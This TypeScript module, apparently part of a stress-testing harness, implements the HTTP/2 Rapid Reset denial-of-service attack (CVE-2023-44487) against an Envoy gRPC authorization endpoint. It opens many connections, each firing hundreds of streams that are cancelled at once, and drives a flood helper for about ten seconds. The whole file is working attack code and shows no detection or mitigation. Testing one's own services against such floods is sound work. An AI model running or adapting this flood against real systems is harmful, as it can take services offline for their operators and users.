import type { Attack } from '../attack.js';
import { flood } from '../flood.js';
import {
  CANCEL,
  END_HEADERS,
  FRAME,
  grpcHeaders,
  headerBlock,
  http2Frame,
  PREFACE,
  SETTINGS,
} from '../http2-frames.js';

const CONNECTIONS = 10;
const STREAMS = 500;
const HEADERS = headerBlock(grpcHeaders('/envoy.service.auth.v3.Authorization/Check'));

/** CVE-2023-44487. */
export const attack: Attack = {
  title: `${CONNECTIONS} connections that open streams and reset them at once`,
  run({ host, ports }, scale, signal) {
    const packet = (round: number): Buffer =>
      Buffer.concat(
        Array.from({ length: STREAMS }, (_, index) => {
          const id = 2 * (round * STREAMS + index) + 1;
          return [http2Frame(FRAME.headers, END_HEADERS, id, HEADERS), http2Frame(FRAME.rstStream, 0, id, CANCEL)];
        }).flat(),
      );
    const opening = Buffer.concat([PREFACE, SETTINGS]);
    return flood(
      { host, port: ports.policy, connections: CONNECTIONS * scale, opening, packet },
      this.durationMs ?? 10_000,
      signal,
    );
  },
};
